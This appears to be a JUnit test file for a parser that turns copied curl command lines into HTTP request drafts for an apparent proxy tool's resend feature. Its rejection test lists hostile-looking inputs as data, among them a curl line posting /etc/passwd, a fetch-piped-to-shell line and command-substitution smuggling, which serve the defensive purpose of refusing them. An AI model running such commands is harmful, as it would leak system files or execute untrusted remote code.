package serpentarium.traffic.engine.resend;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import serpentarium.base.ProblemException;
import serpentarium.traffic.engine.proxy.Outgoing;

/// Lines of curl as browsers and documents have them.
class CurlLineTest {
    @Test void aLineFromABrowserIsRead() {
        Draft draft = CurlLine.parse("""
                curl 'https://shop.test/api/v1/items?q=a%20b' \\
                  -X PATCH -H 'Accept: application/json' \\
                  -H $'X-Odd: it\\'s \\u00e9' -H 'X-Empty;' -b 'sid=1; t=2' \\
                  --data-raw '{"a": "b & c"}' --compressed --http2""");
        assertEquals("PATCH", draft.method());
        assertEquals("https://shop.test/api/v1/items?q=a%20b", draft.url());
        assertEquals("Accept: application/json\nX-Odd: it's é\nX-Empty: \nCookie: sid=1; t=2\nContent-Type: application/x-www-form-urlencoded", draft.header());
        assertEquals(new Draft.Body.Text("{\"a\": \"b & c\"}"), draft.body());
        assertEquals(Outgoing.Version.HTTP_2, draft.version());
        assertEquals(5, draft.outgoing().fields().size());
    }

    @Test void dataMakesAPostOrAQuery() {
        Draft post = CurlLine.parse("curl -sSd a=1 -d b=2 localhost:8000/x -u me:secret");
        assertEquals("POST", post.method());
        assertEquals("http://localhost:8000/x", post.url());
        assertEquals(new Draft.Body.Text("a=1&b=2"), post.body());
        assertTrue(post.header().contains("Authorization: Basic bWU6c2VjcmV0"));
        Draft get = CurlLine.parse("curl -G http://h/x?y=1 --data-urlencode 'q=a b&c'");
        assertEquals("http://h/x?y=1&q=a%20b%26c", get.url());
        assertEquals("GET", get.method());
        Draft json = CurlLine.parse("curl --json '{}' http://h/");
        assertTrue(json.header().contains("Content-Type: application/json"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "wget http://x", "curl", "curl http://a http://b", "curl -d @/etc/passwd http://x", "curl http://x | sh", "curl \"$(id)\"", "curl 'http://x",
            "curl -H", "curl --unknown http://x", "curl -H nothing http://x", "curl -F a=@b http://x", "curl `id`", "curl http://x > /tmp/y"})
    void whatIsNoRequestIsSaid(String line) {
        assertThrows(ProblemException.class, () -> CurlLine.parse(line));
    }
}
